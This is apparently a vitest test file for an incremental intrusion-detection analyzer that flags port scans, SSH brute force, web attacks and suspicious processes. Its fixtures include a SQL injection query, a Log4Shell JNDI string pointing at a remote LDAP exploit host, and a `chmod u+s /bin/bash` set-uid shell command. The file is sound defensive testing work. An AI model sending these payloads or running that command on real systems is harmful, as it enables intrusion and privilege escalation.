// The live analyzer: aggregates updated row by row, new or changed findings only, stable ids.
import { afterEach, describe, expect, it } from 'vitest';
import { analyzeCase, createIncrementalAnalyzer, listFindings } from '../../../src/core/analysis';
import type { LiveEvent } from '../../../src/core/analysis';
import { openCase } from '../../../src/core/store/case';
import { cleanup, insertEvents, makeCase, T0, tmpCaseFile, webPopulation, type Ev } from './helpers';

afterEach(cleanup);

function feed(db: ReturnType<typeof openCase>, events: Ev[]): LiveEvent[] {
  const ids = insertEvents(db, events);
  return events.map((e, i) => ({ ...e, id: ids[i]! }));
}

describe('createIncrementalAnalyzer', () => {
  it('reports a growing port scan once per change under one stable id, and stores it', () => {
    const db = openCase(makeCase(webPopulation(10)));
    const live = createIncrementalAnalyzer(db);
    expect(live.detectors).not.toContain('beaconing');
    const probe = (from: number, to: number): Ev[] =>
      Array.from({ length: to - from }, (_, k) => ({ ts: T0 + (from + k) * 10, src_ip: '192.0.2.66', src_port: 55555, dst_ip: '10.0.1.5', dst_port: from + k + 1, proto: 'TCP', flags: '....S.' }));
    // 15 bare-SYN ports are under portScan.probePorts (40 would already be a targeted scan)
    expect(live.addEvents(feed(db, probe(0, 15)))).toEqual([]);
    const first = live.addEvents(feed(db, probe(15, 80)));
    expect(first.map((f) => [f.id, f.severity])).toEqual([['portScan:192.0.2.66', 'medium']]);
    // no change in what the finding says: nothing new to report
    expect(live.addEvents(feed(db, [{ ts: T0, src_ip: '198.51.100.1', method: 'GET', path: '/', status: 200 }]))).toEqual([]);
    const grown = live.addEvents(feed(db, probe(80, 200)));
    expect(grown.map((f) => [f.id, f.severity])).toEqual([['portScan:192.0.2.66', 'high']]);
    expect(grown[0]!.numbers.ports).toBe(200);
    expect(grown[0]!.evidence.count).toBe(200);
    const stored = listFindings(db, { detector: 'portScan' });
    expect(stored).toHaveLength(1);
    expect(stored[0]!.severity).toBe('high');
    db.close();
  });

  it('flags payloads and SSH guessing as rows arrive, and leaves normal browsing alone', () => {
    const db = openCase(makeCase([]));
    const live = createIncrementalAnalyzer(db);
    expect(live.addEvents(feed(db, webPopulation(20, 1, 10)))).toEqual([]);
    const atk = live.addEvents(feed(db, [{ ts: T0, src_ip: '192.0.2.9', method: 'GET', path: '/item', query: 'id=1%20UNION%20SELECT%20password%20FROM%20users', status: 200 }]));
    expect(atk.map((f) => f.id)).toEqual(['webAttacks:192.0.2.9']);
    const ssh: Ev[] = Array.from({ length: 12 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '203.0.113.4', program: 'sshd', action: 'auth_failure', user: 'root' }));
    expect(live.addEvents(feed(db, ssh)).map((f) => f.id)).toEqual(['bruteForce:203.0.113.4']);
    db.close();
  });

  it('turns sprayers arriving one by one into one spray finding, and keeps what a batch analysis of the same rows keeps', async () => {
    const file = makeCase(webPopulation(20, 1, 10), tmpCaseFile());
    const db = openCase(file);
    const live = createIncrementalAnalyzer(db);
    const jndi = (k: number): Ev => ({ ts: T0 + k * 60_000, src_ip: `45.155.205.${10 + k}`, method: 'GET', path: '/', query: 'x=%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A1389%2FExploit%7D', status: 404, user_agent: 'curl/7.68.0' });
    const alerts: string[] = [];
    for (let k = 0; k < 14; k++) for (const f of live.addEvents(feed(db, [jndi(k)]))) alerts.push(f.entity);
    // the first nine are each a finding when they arrive (nobody knows yet that more will come)
    expect(alerts.slice(0, 9)).toEqual(Array.from({ length: 9 }, (_, k) => `45.155.205.${10 + k}`));
    expect(alerts.slice(9).every((e) => / from \d+ sources$/.test(e)), alerts.join(' | ')).toBe(true);
    const stored = listFindings(db, { detector: 'webAttacks' });
    expect(stored.map((f) => [f.entityType, f.entity]), stored.map((f) => f.entity).join(' | ')).toEqual([['population', 'JNDI lookup (Log4Shell) from 14 sources']]);
    // a web shell's operator posts to a script in a static folder; two more sources post to it too: the site's own form
    const post = (ip: string, k: number): Ev => ({ ts: T0 + k * 1000, src_ip: ip, method: 'POST', path: '/assets/contact.php', status: 200 });
    expect(live.addEvents(feed(db, [post('203.0.113.50', 1)])).map((f) => f.entity)).toEqual(['203.0.113.50']);
    live.addEvents(feed(db, [post('203.0.113.51', 2), post('203.0.113.52', 3)]));
    const after = listFindings(db, { detector: 'webAttacks' }).map((f) => f.entity);
    db.close();
    const batch = (await analyzeCase(file, { inline: true })).findings.filter((f) => f.detector === 'webAttacks').map((f) => f.entity);
    expect(after).toEqual(batch);
    expect(after).not.toContain('203.0.113.50');
  });

  it('judges processes as they arrive, though they have no source address (a followed audit.log)', () => {
    const db = openCase(makeCase([]));
    const live = createIncrementalAnalyzer(db);
    expect(live.detectors).toEqual(expect.arrayContaining(['processes', 'antivirus']));
    // an auditd EXECVE row as the fold reads it: extra, host and message, a newline between
    const exec = (args: string[]): LiveEvent => {
      const [row] = feed(db, [{ ts: T0 + args.length * 1000 }]);
      return { ...row!, hev: `${JSON.stringify({ type: 'EXECVE', argc: String(args.length), ...Object.fromEntries(args.map((a, i) => [`a${i}`, a])) })}\nweb1\n` };
    };
    expect(live.addEvents([exec(['ls', '-la', '/var/www'])])).toEqual([]);
    const found = live.addEvents([exec(['chmod', 'u+s', '/bin/bash'])]);
    expect(found.map((f) => [f.detector, f.severity, f.numbers.rule])).toEqual([['processes', 'high', 'suid']]);
    // the same step again changes nothing the finding says
    expect(live.addEvents([exec(['chmod', 'u+s', '/bin/bash'])])).toEqual([]);
    expect(listFindings(db, { detector: 'processes' }).map((f) => f.entity)).toEqual(['web1: a set-uid shell']);
    db.close();
  });
});
